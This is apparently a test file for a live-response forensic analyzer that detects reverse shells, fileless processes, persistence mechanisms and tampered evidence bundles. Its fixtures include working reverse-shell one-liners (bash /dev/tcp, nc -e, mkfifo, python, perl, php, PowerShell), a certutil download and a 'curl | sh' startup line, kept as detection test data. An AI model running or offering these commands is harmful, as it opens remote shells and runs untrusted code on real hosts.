import { describe, expect, it } from 'vitest';
import type { Event, Fields } from '../../core/event.ts';
import { INTERACTIVE_SHELL, REVERSE_SHELL, WINDOWS_SUSPICIOUS } from '../commands.ts';
import { DEFAULT_ANALYSIS_OPTIONS } from '../types.ts';
import { liveAnalyzers } from './index.ts';
import { placeOf } from './paths.ts';
import { commandImage } from './windows.ts';

const COLLECTED = Date.UTC(2026, 9, 14, 3) * 1000;
const DAY = 86_400e6;

function ev(format: string, category: string, fields: Fields, ts = COLLECTED, product = 'linux'): Event {
  return {
    ts,
    host: 'web01',
    source: { format, file: `${format}.txt`, line: 1 },
    logsource: { product, category, service: 'live' },
    fields: { collected: COLLECTED, ...fields },
  };
}

function run(events: Event[], matchIp?: (ip: string) => { label: string } | undefined) {
  const as = liveAnalyzers({ ...DEFAULT_ANALYSIS_OPTIONS, matchIp });
  for (const e of events) for (const a of as) if (a.wants(e)) a.add(e);
  return as.flatMap((a) => a.finish());
}

const proc = (pid: number, image: string, cmd: string, extra: Fields = {}): Event =>
  ev('live-processes', 'process_snapshot', {
    ProcessId: pid,
    ParentProcessId: 1,
    Image: image,
    CommandLine: cmd,
    User: 'root',
    ...extra,
  });
const sock = (f: Fields): Event => ev('live-sockets', 'network_snapshot', f);

describe('command patterns', () => {
  it('reverse and bind shells', () => {
    for (const cmd of [
      'bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
      'nc -e /bin/sh 203.0.113.9 4444',
      'ncat 203.0.113.9 443 -e /bin/bash',
      'nc.traditional -lvp 4444 -e /bin/bash',
      'python3 -c import pty;pty.spawn("/bin/bash")',
      'python -c import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242))',
      'perl -e use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))',
      'socat exec:bash,pty,stderr tcp:203.0.113.9:443',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f',
      'php -r $sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");',
      'powershell -nop -c $c=New-Object System.Net.Sockets.TCPClient("10.0.0.1",443)',
    ])
      expect(REVERSE_SHELL.test(cmd), cmd).toBe(true);
    for (const cmd of [
      '/usr/sbin/sshd -D',
      'nc -z localhost 22',
      'python3 -m http.server',
      'bash /etc/init.d/x start',
      'ncdu /var',
    ])
      expect(REVERSE_SHELL.test(cmd), cmd).toBe(false);
    expect(INTERACTIVE_SHELL.test('bash -i')).toBe(true);
    expect(INTERACTIVE_SHELL.test('/bin/sh -i')).toBe(true);
    expect(INTERACTIVE_SHELL.test('bash -c id')).toBe(false);
    expect(WINDOWS_SUSPICIOUS.test('powershell.exe -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8A')).toBe(true);
    expect(WINDOWS_SUSPICIOUS.test('certutil -urlcache -f http://x/a.exe a.exe')).toBe(true);
    expect(WINDOWS_SUSPICIOUS.test('C:\\Windows\\System32\\svchost.exe -k netsvcs')).toBe(false);
  });

  it('places and command images', () => {
    expect(placeOf('/dev/shm/x')).toBe('temp');
    expect(placeOf('/home/a/bin/x')).toBe('user');
    expect(placeOf('/usr/bin/x')).toBeUndefined();
    expect(placeOf('/memfd:x (deleted)')).toBe('memfd');
    expect(placeOf('C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe')).toBe('temp');
    expect(placeOf('C:\\Users\\Public\\a.exe')).toBe('user');
    expect(placeOf('C:\\Program Files\\x\\a.exe')).toBeUndefined();
    expect(commandImage('"C:\\Program Files\\A B\\x.exe" /svc')).toBe('C:\\Program Files\\A B\\x.exe');
    expect(commandImage('C:\\Windows\\system32\\svchost.exe -k x')).toBe('C:\\Windows\\system32\\svchost.exe');
  });
});

describe('live processes and sockets', () => {
  it('deleted, temporary, user-writable and memfd executables; kernel-thread names; the collector is left out', () => {
    const f = run([
      proc(10, '/dev/shm/.x', '/dev/shm/.x', { ImageDeleted: true }),
      proc(11, '/tmp/miner', './miner -o pool'),
      proc(12, '/home/bob/bin/tool', 'tool'),
      proc(13, '/memfd:a', 'x', { ImageDeleted: true }),
      proc(14, '/memfd:a', 'x', { ImageDeleted: true }),
      proc(15, '/usr/bin/python3', '[kworker/0:1]'),
      proc(16, '/tmp/c.sh', 'sh /tmp/c.sh', { collector: true }),
      proc(17, '/usr/sbin/sshd', '/usr/sbin/sshd -D'),
    ]);
    const by = (k: string) => f.filter((x) => x.kind === k).map((x) => [x.severity, x.evidence.length, x.count]);
    expect(by('live-deleted-executable')).toEqual([['high', 1, 1]]);
    expect(by('live-writable-executable')).toEqual([
      ['high', 1, 1],
      ['medium', 1, 1],
    ]);
    expect(by('live-fileless-process')).toEqual([['medium', 2, 2]]);
    expect(f.find((x) => x.kind === 'live-fileless-process')?.summary_en).toContain('and 1 more processes');
    expect(by('live-masquerade')).toEqual([['high', 1, 1]]);
    expect(f.some((x) => x.summary_en.includes('/tmp/c.sh'))).toBe(false);
  });

  it('listeners by what owns them; live connections to indicators; others as context for the composite', () => {
    const f = run(
      [
        proc(20, '/dev/shm/.x', '.x', { ImageDeleted: true }),
        proc(21, '/usr/bin/python3.11', 'python3 -m http.server'),
        proc(22, '/usr/sbin/nginx', 'nginx'),
        proc(23, '/usr/bin/socat', 'socat tcp-listen:8080 -'),
        sock({ Protocol: 'tcp', LocalAddress: '127.0.0.1', LocalPort: 7000, State: 'LISTEN', ProcessId: 20 }),
        sock({
          Protocol: 'tcp',
          LocalAddress: '0.0.0.0',
          LocalPort: 8000,
          State: 'LISTEN',
          ProcessId: 21,
          Image: '/usr/bin/python3.11',
        }),
        sock({
          Protocol: 'tcp',
          LocalAddress: '0.0.0.0',
          LocalPort: 80,
          State: 'LISTEN',
          ProcessId: 22,
          Image: '/usr/sbin/nginx',
        }),
        sock({
          Protocol: 'tcp',
          LocalAddress: '0.0.0.0',
          LocalPort: 8080,
          State: 'LISTEN',
          ProcessId: 23,
          Image: '/usr/bin/socat',
        }),
        sock({ Protocol: 'tcp', State: 'ESTABLISHED', ProcessId: 22, dst_ip: '198.51.100.7', dst_port: 443 }),
        sock({ Protocol: 'tcp', State: 'ESTABLISHED', ProcessId: 22, dst_ip: '203.0.113.5', dst_port: 443 }),
        sock({ Protocol: 'tcp', State: 'ESTABLISHED', ProcessId: 22, dst_ip: '203.0.113.5', dst_port: 443 }),
        sock({ Protocol: 'tcp', State: 'ESTABLISHED', ProcessId: 22, dst_ip: '10.0.0.5', dst_port: 5432 }),
      ],
      (ip) => (ip === '198.51.100.7' ? { label: 'C&C of campaign X' } : undefined),
    );
    const listeners = f.filter((x) => x.kind === 'live-suspicious-listener').map((x) => [x.details?.port, x.severity]);
    expect(listeners).toEqual([
      [7000, 'high'],
      [8000, 'medium'],
      [8080, 'high'],
    ]);
    expect(f.find((x) => x.kind === 'live-ioc-connection')).toMatchObject({
      severity: 'critical',
      peer: '198.51.100.7',
    });
    expect(f.filter((x) => x.kind === 'live-connection').map((x) => [x.peer, x.count, x.severity])).toEqual([
      ['203.0.113.5', 2, 'low'],
    ]);
  });
});

describe('live persistence', () => {
  const file = (list: string, path: string, mode: string, ts: number, type = 'regular file'): Event =>
    ev(
      'live-files',
      'file_snapshot',
      {
        list,
        TargetFilename: path,
        Mode: mode,
        FileType: type,
        Setuid: (Number.parseInt(mode, 8) & 0o4000) !== 0,
        Setgid: (Number.parseInt(mode, 8) & 0o2000) !== 0,
        OwnerUid: '0',
      },
      ts,
    );

  it('units, start-up files, keys, preload, second roots', () => {
    const f = run([
      ev(
        'systemd-unit',
        'persistence',
        { UnitName: 'x.service', TargetFilename: '/etc/systemd/system/x.service', CommandLine: '/tmp/.x/run' },
        COLLECTED - 300 * DAY,
      ),
      ev(
        'systemd-unit',
        'persistence',
        {
          UnitName: 'new.service',
          TargetFilename: '/etc/systemd/system/new.service',
          CommandLine: '/usr/local/bin/app',
        },
        COLLECTED - DAY,
      ),
      ev(
        'systemd-unit',
        'persistence',
        {
          UnitName: 'ssh.service',
          TargetFilename: '/lib/systemd/system/ssh.service',
          CommandLine: '/usr/sbin/sshd -D',
        },
        COLLECTED - DAY,
      ),
      ev('shell-startup', 'persistence', { TargetFilename: '/root/.bashrc', CommandLine: 'curl -s http://x/a | sh' }),
      ev('shell-startup', 'persistence', { TargetFilename: '/root/.bashrc', CommandLine: 'alias ll="ls -l"' }),
      ev(
        'ssh-authorized-keys',
        'persistence',
        { User: 'root', KeyFingerprint: 'SHA256:a', KeyType: 'ssh-ed25519', KeyComment: 'm@k', KeyOptions: '' },
        COLLECTED - 2 * DAY,
      ),
      ev(
        'ssh-authorized-keys',
        'persistence',
        {
          User: 'bob',
          KeyFingerprint: 'SHA256:b',
          KeyType: 'ssh-rsa',
          KeyComment: '',
          KeyOptions: 'command="/bin/sh"',
        },
        COLLECTED - 400 * DAY,
      ),
      ev('ld-so-preload', 'persistence', { TargetFilename: '/etc/ld.so.preload', PreloadLibrary: '/dev/shm/.l.so' }),
      ev('ld-so-preload', 'persistence', {
        TargetFilename: '/etc/ld.so.preload',
        PreloadLibrary: '/usr/lib/x/libhide.so',
      }),
      ev('passwd', 'account_snapshot', { User: 'toor', uid: 0, Shell: '/bin/bash' }),
      ev('passwd', 'account_snapshot', { User: 'root', uid: 0, Shell: '/bin/bash' }),
    ]);
    const kinds = f.map((x) => `${x.kind}:${x.severity}`).sort();
    expect(kinds).toEqual(
      [
        'live-unit-persistence:high',
        'live-unit-persistence:medium',
        'live-startup-persistence:high',
        'live-ssh-key:medium',
        'live-ssh-key:medium',
        'live-preload-hijack:critical',
        'live-preload-hijack:high',
        'live-uid0-account:high',
      ].sort(),
    );
  });

  it('file listings: set-uid in writable places, executables in shared memory, recent changes grouped per host', () => {
    const f = run([
      file('suid', '/dev/shm/.s', '4755', COLLECTED - 400 * DAY),
      file('writable', '/dev/shm/.s', '4755', COLLECTED - 400 * DAY),
      file('suid', '/usr/bin/passwd', '4755', COLLECTED - 400 * DAY),
      file('suid', '/usr/local/bin/helper', '4755', COLLECTED - DAY),
      file('writable', '/dev/shm/payload', '755', COLLECTED - DAY),
      file('writable', '/tmp/.hidden/x', '700', COLLECTED - DAY),
      file('writable', '/tmp/build/node_modules/.bin/tsc', '755', COLLECTED - DAY),
      file('persistence', '/etc/cron.d/x', '644', COLLECTED - DAY),
      file('persistence', '/etc/systemd/system/y.service', '644', COLLECTED - 2 * DAY),
      file('persistence', '/etc/systemd/system', '755', COLLECTED - DAY, 'directory'),
      file('persistence', '/lib/systemd/system/z.service', '644', COLLECTED - DAY),
      file('persistence', '/etc/cron.d/old', '644', COLLECTED - 100 * DAY),
    ]);
    const by = (k: string) => f.filter((x) => x.kind === k);
    expect(by('live-suid-writable').map((x) => [x.severity, /file (\S+) on/.exec(x.summary_en)?.[1]])).toEqual([
      ['high', '/dev/shm/.s'],
      ['medium', '/usr/local/bin/helper'],
    ]);
    expect(by('live-writable-executable').map((x) => [x.count, x.details?.files])).toEqual([
      [2, ['/dev/shm/payload', '/tmp/.hidden/x']],
    ]);
    expect(by('live-persistence-changed').map((x) => [x.count, x.details?.files])).toEqual([
      [2, ['/etc/cron.d/x', '/etc/systemd/system/y.service']],
    ]);
  });
});

describe('collection integrity', () => {
  it('a bundle that differs from its manifest is reported once, with the files', () => {
    const m = (fields: Fields): Event => ({
      ...ev('collection-manifest', 'collection_integrity', fields),
      logsource: { product: 'konseki', category: 'collection_integrity', service: 'live' },
    });
    const f = run([
      m({ Status: 'changed', TargetFilename: './volatile/processes.tsv' }),
      m({ Status: 'summary', verified: 10, changed: 1, missing: 0 }),
    ]);
    expect(f.map((x) => [x.kind, x.severity, x.count])).toEqual([['collection-altered', 'high', 1]]);
    expect(f[0]!.summary_en).toContain('./volatile/processes.tsv');
    expect(run([m({ Status: 'summary', verified: 10, changed: 0, missing: 0 })])).toEqual([]);
  });
});
